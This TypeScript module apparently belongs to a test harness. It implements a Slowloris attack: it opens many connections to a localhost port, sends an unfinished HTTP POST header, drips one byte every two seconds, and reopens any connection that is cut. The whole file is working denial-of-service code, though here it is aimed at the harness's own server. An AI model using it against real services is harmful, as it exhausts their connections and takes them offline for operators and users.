import { setTimeout as pause } from 'node:timers/promises'
import type { Attacked, Tally } from './attack.ts'
import { openTo } from './flood.ts'

const begun = 'POST /v1/verifications HTTP/1.1\r\nHost: localhost\r\nX-Slow: '
const byteEveryMs = 2000

/** Connections that send their headers byte by byte, and never the last one; what is cut begins anew. */
export async function slowloris({ port, connections }: Attacked, tally: Tally): Promise<void> {
  for (let opened = 0; opened < connections; opened += 1) {
    beginSlowly(port, tally)
    if (opened % 100 === 0) await pause(10)
  }
}

function beginSlowly(port: number, tally: Tally): void {
  const socket = openTo(port)
  socket.write(begun)
  tally.add('begun')
  const dripping = setInterval(() => socket.write('a'), byteEveryMs)
  socket.on('data', (chunk: Buffer) => tally.add(chunk.toString('latin1', 9, 12)))
  socket.once('close', () => {
    clearInterval(dripping)
    tally.add('cut')
    setImmediate(() => beginSlowly(port, tally))
  })
}
